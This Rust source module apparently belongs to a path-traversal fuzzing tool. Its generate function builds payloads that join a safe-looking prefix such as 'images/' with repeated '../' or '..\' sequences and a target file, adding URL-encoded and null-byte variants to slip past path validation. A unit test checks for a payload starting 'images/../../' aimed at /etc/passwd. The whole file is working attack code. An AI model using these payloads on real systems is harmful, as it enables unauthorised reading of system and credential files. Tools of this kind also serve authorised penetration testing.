//! `path_validation`: a legitimate-looking prefix (`images/`, `uploads/`, ...)
//! followed by a traversal sequence and target file, for targets that
//! validate the path only after concatenating a supposedly-safe prefix.
//! Each composed payload also gets a URL-encoded and a null-byte variant of
//! the whole string, since the prefix itself may be what's being matched.

use crate::constants::{NULL_ENCODINGS, NULL_ENCODING_TOP_N};
use crate::encoding::repeat;
use crate::generator::{prefixes_for_os, relative_target_files, GenerateParams};
use crate::methods::{url_encoded_dots, url_encoded_slashes, with_target};

pub fn generate(params: &GenerateParams) -> Vec<String> {
    let prefixes = prefixes_for_os(params.os);
    let targets = relative_target_files(params);
    let encoded_dot = url_encoded_dots().first().copied().unwrap_or("%2e%2e");
    let encoded_slash = url_encoded_slashes().first().copied().unwrap_or("%2f");
    let mut out = Vec::new();

    for prefix in &prefixes {
        for sep in ["../", "..\\"] {
            for depth in params.depth_range() {
                let traversal = repeat(sep, depth);
                for target in &targets {
                    let literal = with_target(&traversal, target, params.extension.as_deref());
                    let composed = format!("{prefix}{literal}");
                    out.push(composed.clone());

                    let encoded_traversal =
                        repeat(&format!("{encoded_dot}{encoded_slash}"), depth);
                    let encoded = with_target(&encoded_traversal, target, params.extension.as_deref());
                    out.push(format!("{prefix}{encoded}"));

                    for null_enc in NULL_ENCODINGS.iter().take(NULL_ENCODING_TOP_N) {
                        out.push(format!("{composed}{null_enc}"));
                    }
                }
            }
        }
    }

    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::types::{DetectionMethod, OsType};

    #[test]
    fn composed_payload_keeps_the_legitimate_prefix() {
        let mut params = GenerateParams::new(OsType::Unix, 2, DetectionMethod::PathValidation);
        params.target_file = Some("/etc/passwd".to_string());
        let out = generate(&params);
        assert!(out.iter().any(|p| p.starts_with("images/../../")));
    }
}
